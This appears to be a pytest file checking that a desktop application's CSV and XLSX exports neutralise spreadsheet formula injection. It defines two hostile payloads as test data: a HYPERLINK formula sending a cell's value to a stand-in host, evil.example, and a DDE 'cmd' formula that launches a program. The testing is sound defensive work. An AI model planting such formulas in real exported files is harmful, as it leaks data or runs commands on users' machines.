"""Review security-2026-11, H5: no exported cell is ever a live spreadsheet formula."""
import csv
import zipfile

from desktop.cli import main
from desktop.domain.spreadsheet import safe_row
from desktop.store.db import open_store

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquer ici")'
CMD = "=cmd|' /C calc'!A0"


def test_safe_row_neutralises_every_formula_start():
    cells = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok", 3, -4, None, ""]
    assert safe_row(cells) == ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "ok", 3, -4, None, ""]


def _rename(demo_path):
    with open_store(demo_path) as store:
        site = store.scalar("SELECT site_id FROM inspection ORDER BY inspected_at DESC LIMIT 1")
        district = store.scalar("SELECT id FROM district LIMIT 1")
        with store.transaction(None) as tx:
            tx.update("site", site, {"name": EVIL, "address": CMD})
            tx.update("district", district, {"name_fr": EVIL})
        return store.scalar("SELECT substr(inspected_at, 1, 4) FROM inspection ORDER BY inspected_at DESC LIMIT 1")


def _cells(path):
    with path.open(encoding="utf-8-sig") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_inspections_csv_export_has_no_formula(demo_path, tmp_path):
    _rename(demo_path)
    out = tmp_path / "i.csv"
    assert main(["inspections", "export", "--db", str(demo_path), "--format", "csv", "--out", str(out)]) == 0
    cells = _cells(out)
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "'" + EVIL in cells or "'" + CMD in cells


def test_open_data_csv_has_no_formula(demo_path, tmp_path):
    year = _rename(demo_path)
    assert main(["opendata", "--db", str(demo_path), "--year", year, "--out", str(tmp_path / "od")]) == 0
    cells = [c for f in (tmp_path / "od").glob("*.csv") for c in _cells(f)]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "'" + EVIL in cells


class _Model:
    """An in-memory list, as RowsTableModel gives it."""
    headers = ["nom", "adresse", "n"]

    def __init__(self, rows):
        self.rows = rows

    @staticmethod
    def formatter(row):
        return row


def test_list_export_xlsx_writes_text_not_formulas(tmp_path):
    from openpyxl import load_workbook
    from desktop.ui.list_export import export_model
    model = _Model([(EVIL, CMD, 3), ("-1", "@x", -2)])
    path = tmp_path / "l.xlsx"
    assert export_model(model, path) == 2
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(path)
    assert [c.value for c in book.active[2]] == [EVIL, CMD, 3]  # shown as the text it is
    assert export_model(model, tmp_path / "l.csv") == 2
    assert _cells(tmp_path / "l.csv")[3:6] == ["'" + EVIL, "'" + CMD, "3"]
